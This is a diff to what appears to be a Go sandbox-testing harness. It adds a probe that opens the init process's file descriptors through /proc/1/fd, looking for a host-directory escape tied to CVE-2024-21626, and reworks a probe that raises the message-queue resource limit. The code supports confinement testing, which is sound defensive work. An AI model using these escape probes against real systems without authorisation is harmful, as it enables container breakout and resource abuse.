@@ -16,6 +16,7 @@ import (
 func init() {
 	register(map[string]attack{
 		"open-path":      openPathAttack,
+		"pid1-fds":       pid1FDsAttack,
 		"leaked-fds":     leakedFDsAttack,
 		"cwd-escape":     cwdEscapeAttack,
 		"chroot-escape":  chrootEscapeAttack,
@@ -57,6 +58,32 @@ func openPathAttack(a args) Verdict {
 		unix.Close(fd)
 		return worked("opened " + p)
 	}
+}
+
+// pid1FDsAttack opens what the descriptors of the sandbox's init lead
+// to, through /proc/1/fd: a host directory among them is the way out of
+// CVE-2024-21626.
+func pid1FDsAttack(args) Verdict {
+	ents, err := os.ReadDir("/proc/1/fd")
+	if err != nil {
+		return refused("readdir /proc/1/fd", err)
+	}
+	var last error
+	for _, e := range ents {
+		p := "/proc/1/fd/" + e.Name()
+		fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
+		if err != nil {
+			last = err
+			continue
+		}
+		unix.Close(fd)
+		target, _ := os.Readlink(p)
+		return worked("opened the init's descriptor " + p + " -> " + target)
+	}
+	if last == nil {
+		return Verdict{Attempted: true, Detail: "the init holds no descriptors"}
+	}
+	return refused("open /proc/1/fd/N", last)
 }
 
 // leakedFDsAttack looks for descriptors the workload did not open: a
@@ -196,17 +223,21 @@ func sethostnameAttack(a args) Verdict {
 	return worked("set the hostname (of its own UTS namespace, the host checks)")
 }
 
-// rlimitRaiseAttack raises its hard limit on open files.
+// rlimitRaiseAttack raises its hard limit on POSIX message-queue bytes,
+// which counts against the host user's allowance (see mqueue).
 func rlimitRaiseAttack(args) Verdict {
 	var r unix.Rlimit
-	if err := unix.Getrlimit(unix.RLIMIT_NOFILE, &r); err != nil {
+	if err := unix.Getrlimit(unix.RLIMIT_MSGQUEUE, &r); err != nil {
 		return refused("getrlimit", err)
 	}
-	want := unix.Rlimit{Cur: r.Max + 1024, Max: r.Max + 1024}
-	if err := unix.Setrlimit(unix.RLIMIT_NOFILE, &want); err != nil {
+	if r.Max == unix.RLIM_INFINITY {
+		return worked("RLIMIT_MSGQUEUE is unlimited already")
+	}
+	want := unix.Rlimit{Cur: r.Max + 1<<20, Max: r.Max + 1<<20}
+	if err := unix.Setrlimit(unix.RLIMIT_MSGQUEUE, &want); err != nil {
 		return refused("setrlimit", err)
 	}
-	return worked(fmt.Sprintf("raised RLIMIT_NOFILE from %d to %d", r.Max, want.Max))
+	return worked(fmt.Sprintf("raised RLIMIT_MSGQUEUE from %d to %d", r.Max, want.Max))
 }
 
 func statusFields() (map[string]string, error) {
